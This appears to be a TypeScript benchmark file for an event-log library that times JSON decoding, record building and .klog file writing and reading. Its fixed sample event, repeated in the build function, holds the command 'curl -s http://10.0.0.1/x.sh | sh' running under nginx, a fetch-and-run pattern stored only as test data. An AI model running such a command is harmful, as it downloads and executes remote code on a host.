// The event room: building a record, decoding and encoding JSON, reading lines, `.klog` writing and reading. Fixed input.
import { mkdtempSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { encodeJson, JsonDecoder, KlogReader, KlogWriter, RecordBuilder, RecordView, readLineChunks } from "#event";
import { seededRandom } from "../eql/backend-support.ts";
import { bestNs, printAlone, type Row, type Section } from "./row.ts";
import { registry, sensorRecord } from "./sensor-events.ts";

const EVENT = {
  "@timestamp": "2024-05-01T10:00:00.123456789Z",
  event: { kind: "event", category: ["process"], type: ["start"], action: "exec", module: "kestrel", sequence: 123456 },
  host: { id: "6d0c2d9d", name: "web-01", os: { type: "linux" } },
  process: {
    pid: 4242,
    name: "bash",
    executable: "/usr/bin/bash",
    command_line: "bash -c curl -s http://10.0.0.1/x.sh | sh",
    args: ["bash", "-c", "curl -s http://10.0.0.1/x.sh | sh"],
    working_directory: "/var/www/html",
    entity_id: "NmQwYzJkOWQtNDI0Mg",
    parent: { pid: 4000, name: "nginx", executable: "/usr/sbin/nginx" },
  },
  user: { id: "33", name: "www-data" },
};
const LINE = JSON.stringify(EVENT);
const BYTES = new TextEncoder().encode(LINE);

const FILE_EVENTS = 50_000;

function measure(name: string, turns: number, run: (turn: number) => void): Row {
  return { name, value: bestNs(turns, run), unit: "ns" };
}

const builder = new RecordBuilder();
const id = (name: string): number => registry.idOf(name);
const ids = {
  time: id("@timestamp"),
  type: id("event.type"),
  pid: id("process.pid"),
  name: id("process.name"),
  executable: id("process.executable"),
  commandLine: id("process.command_line"),
  args: id("process.args"),
  parentPid: id("process.parent.pid"),
  parentName: id("process.parent.name"),
  userId: id("user.id"),
};

function build(turn: number): void {
  builder.begin2(3, turn, 0);
  builder.dateWords(ids.time, turn, 0);
  builder.keyword(ids.type, "start");
  builder.keyword(ids.userId, "33");
  builder.keyword(ids.name, "bash");
  builder.keyword(ids.executable, "/usr/bin/bash");
  builder.keyword(ids.commandLine, "bash -c curl -s http://10.0.0.1/x.sh | sh");
  builder.keywords(ids.args, ["bash", "-c", "curl -s http://10.0.0.1/x.sh | sh"]);
  builder.i64Number(ids.pid, turn);
  builder.i64Number(ids.parentPid, 4000);
  builder.keyword(ids.parentName, "nginx");
  builder.finish();
}

const decoder = new JsonDecoder(registry);
const view = new RecordView();

function inMemory(): Row[] {
  const size = decoder.decode(LINE) as number;
  const record = decoder.builder.bytes.slice(0, size);
  return [
    measure("build a record of 10 fields", 50_000, build),
    measure(`JSON.parse alone, ${BYTES.length} bytes`, 20_000, () => JSON.parse(LINE)),
    measure(`decode ${BYTES.length} bytes of JSON to a record`, 20_000, () => decoder.decodeBytes(BYTES, 0, BYTES.length)),
    measure("decode the same from text", 20_000, () => decoder.decode(LINE)),
    measure(`encode a record of ${size} bytes`, 10_000, () => encodeJson(view.reset(record, 0), registry)),
    measure("read one string by id", 50_000, () => view.string(ids.commandLine)),
  ];
}

const perSecond = (count: number, startNs: number): number => Math.round((count * 1e9) / (Bun.nanoseconds() - startNs));

async function throughFiles(directory: string): Promise<Row[]> {
  const figures: Row[] = [];
  const random = seededRandom(7);
  // As many as make their repetition invisible to the compressor's window.
  const records = Array.from({ length: 5000 }, () => sensorRecord(random));
  const lines = join(directory, "events.jsonl");
  writeFileSync(lines, `${LINE}\n`.repeat(FILE_EVENTS));
  let start = Bun.nanoseconds();
  for await (const { bytes, from, to, numbers } of readLineChunks(lines)) {
    for (let index = 0; index < numbers.length; index++) decoder.decodeBytes(bytes, from[index]!, to[index]!);
  }
  const events = perSecond(FILE_EVENTS, start);
  figures.push({ name: "JSON lines of a file to records", value: events, unit: "events/s" });
  figures.push({ name: "the same in bytes", value: Math.round((events * (BYTES.length + 1)) / 1e6), unit: "MB/s" });
  for (const compress of [true, false]) {
    const kind = compress ? "compressed" : "plain";
    const path = join(directory, `${kind}.klog`);
    const writer = KlogWriter.open(path, registry, { compress });
    start = Bun.nanoseconds();
    for (let count = 0; count < FILE_EVENTS; count++) {
      const record = records[count % records.length]!;
      writer.append(record, 0, record.length);
    }
    writer.close();
    figures.push({ name: `.klog write, ${kind}`, value: perSecond(FILE_EVENTS, start), unit: "events/s" });
    figures.push({ name: `.klog size of an event, ${kind}`, value: Math.round(statSync(path).size / FILE_EVENTS), unit: "bytes" });
    const reader = KlogReader.open(path, registry);
    start = Bun.nanoseconds();
    let count = 0;
    for (let block = reader.next(); block !== undefined; block = reader.next()) count += block.count;
    reader.close();
    figures.push({ name: `.klog read and check, ${kind}`, value: perSecond(count, start), unit: "events/s" });
  }
  return figures;
}

async function rows(): Promise<readonly Row[]> {
  const directory = mkdtempSync(join(tmpdir(), "kestrel-bench-"));
  try {
    return [...inMemory(), ...(await throughFiles(directory))];
  } finally {
    rmSync(directory, { recursive: true, force: true });
  }
}

/** Records and logs. */
export const eventSection: Section = { name: "event", rows };

if (import.meta.main) await printAlone(eventSection);
